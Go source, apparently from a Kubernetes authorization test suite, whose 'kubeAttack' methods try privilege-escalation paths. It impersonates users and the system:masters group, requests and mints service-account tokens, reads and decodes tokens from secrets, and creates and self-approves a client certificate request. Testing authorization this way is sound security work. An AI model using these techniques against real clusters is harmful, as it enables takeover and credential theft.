package main

import (
	"bytes"
	"crypto/ecdsa"
	"crypto/elliptic"
	"crypto/rand"
	"crypto/tls"
	"crypto/x509"
	"crypto/x509/pkix"
	"encoding/base64"
	"encoding/json"
	"encoding/pem"
	"fmt"
	"net/http"
	"strings"
)

// impersonate acts as everybody by a header. One who acts as somebody else already
// can't.
func (a *kubeAttack) impersonate(who kubeWho) {
	if who.as != nil || !a.mayTouch(who, "users", "groups", "serviceaccounts") {
		return
	}
	users := []string{"boss-" + a.n, "app-" + a.n}
	for _, space := range a.spaces() {
		for _, account := range []string{"app", "strong", "weak"} {
			users = append(users, "system:serviceaccount:"+space+":"+account)
		}
	}
	groups := []string{"", "system:masters", "devs-" + a.n, "ops-" + a.n}
	for _, user := range users {
		for _, group := range groups {
			as := kubeWho{name: user, client: who.client, token: who.token, as: http.Header{"Impersonate-User": {user}}}
			if group != "" {
				as.name += " in " + group
				as.as["Impersonate-Group"] = []string{group}
			}
			if has(a.all, as.name) {
				continue
			}
			if !a.did(as, http.MethodPost, "/apis/authentication.k8s.io/v1/selfsubjectreviews", "apiVersion: authentication.k8s.io/v1\nkind: SelfSubjectReview\n") {
				if group == "" {
					break
				}
				continue
			}
			a.become(as)
		}
	}
}

// takeTokens asks for tokens of accounts, makes secrets that get one, and reads them.
func (a *kubeAttack) takeTokens(who kubeWho, space string) {
	if !a.mayTouch(who, "serviceaccounts/token", "secrets") {
		return
	}
	for _, account := range []string{"app", "strong", "weak"} {
		name := "system:serviceaccount:" + space + ":" + account
		if has(a.all, name) && a.seen["get a token"] {
			continue
		}
		_, text := a.request(who, http.MethodPost, "/api/v1/namespaces/"+space+"/serviceaccounts/"+account+"/token", kubeTokenRequest)
		if token, err := tokenIn(text); err == nil {
			a.seen["get a token"] = true
			a.become(a.bearing(name, token))
		}
		secret := "apiVersion: v1\nkind: Secret\ntype: kubernetes.io/service-account-token\nmetadata: {name: got-" + account + ", namespace: " + space + ", annotations: {kubernetes.io/service-account.name: " + account + "}}\n"
		if a.did(who, http.MethodPost, "/api/v1/namespaces/"+space+"/secrets", secret) {
			a.there[space] = append(a.there[space], "got-"+account)
			a.until(a.t, func() bool {
				status, text := a.request(a.admin, http.MethodGet, "/api/v1/namespaces/"+space+"/secrets/got-"+account, "")
				return status == http.StatusNotFound || strings.Contains(text, `"token"`)
			})
		}
	}
	a.readSecrets(who, space)
}

// readSecrets reads secrets one by one, at once, and by their names in a list.
func (a *kubeAttack) readSecrets(who kubeWho, space string) {
	var texts []string
	path := "/api/v1/namespaces/" + space + "/secrets"
	for _, name := range a.there[space] {
		if a.done[space+" "+name] {
			continue // read already
		}
		for _, way := range []string{"/" + name, "?fieldSelector=metadata.name%3D" + name, "?watch=true&timeoutSeconds=1&fieldSelector=metadata.name%3D" + name} {
			if status, text := a.request(who, http.MethodGet, path+way, ""); status == http.StatusOK {
				texts = append(texts, text)
				a.done[space+" "+name] = strings.Contains(text, `"data"`)
				break
			}
		}
	}
	for _, text := range texts {
		a.seen["read secrets"] = a.seen["read secrets"] || strings.Contains(text, "c29tZXRoaW5n")
		for rest := text; ; {
			_, after, found := strings.Cut(rest, `"token":"`)
			if !found {
				break
			}
			encoded, more, _ := strings.Cut(after, `"`)
			rest = more
			token, err := base64.StdEncoding.DecodeString(encoded)
			if _, account, ok := strings.Cut(text, `"kubernetes.io/service-account.name":"`); ok && err == nil {
				account, _, _ = strings.Cut(account, `"`)
				a.become(a.bearing("system:serviceaccount:"+space+":"+account, string(token)))
			}
		}
	}
}

// sign asks for a certificate of boss and approves of it.
func (a *kubeAttack) sign(who kubeWho) {
	if has(a.all, "boss-"+a.n) || !a.mayTouch(who, "certificatesigningrequests") {
		return
	}
	key, err := ecdsa.GenerateKey(elliptic.P256(), rand.Reader)
	if err != nil {
		a.t.Fatal(err)
	}
	raw, err := x509.CreateCertificateRequest(rand.Reader, &x509.CertificateRequest{Subject: pkix.Name{CommonName: "boss-" + a.n}}, key)
	if err != nil {
		a.t.Fatal(err)
	}
	name := fmt.Sprintf("c%d-%s", a.marks.Add(1), a.n)
	asked := base64.StdEncoding.EncodeToString(pem.EncodeToMemory(&pem.Block{Type: "CERTIFICATE REQUEST", Bytes: raw}))
	path := "/apis/certificates.k8s.io/v1/certificatesigningrequests"
	status, _ := a.request(who, http.MethodPost, path, "apiVersion: certificates.k8s.io/v1\nkind: CertificateSigningRequest\nmetadata: {name: "+name+"}\nspec: {request: "+asked+", signerName: kubernetes.io/kube-apiserver-client, usages: [client auth]}\n")
	if status != http.StatusCreated {
		return
	}
	approved, _ := a.replace(who, path+"/"+name+"/approval", func(text string) string {
		return strings.Replace(text, `"status":{}`, `"status":{"conditions":[{"type":"Approved","status":"True","reason":"a","message":"a"}]}`, 1)
	})
	if approved != http.StatusOK {
		return
	}
	a.until(a.t, func() bool {
		_, text := a.request(a.admin, http.MethodGet, path+"/"+name, "")
		var signed struct{ Status struct{ Certificate []byte } }
		if json.Unmarshal([]byte(text), &signed) != nil || len(signed.Status.Certificate) == 0 {
			return false
		}
		block, _ := pem.Decode(bytes.TrimSpace(signed.Status.Certificate))
		a.become(a.with("boss-"+a.n, tls.Certificate{Certificate: [][]byte{block.Bytes}, PrivateKey: key}))
		return true
	})
}
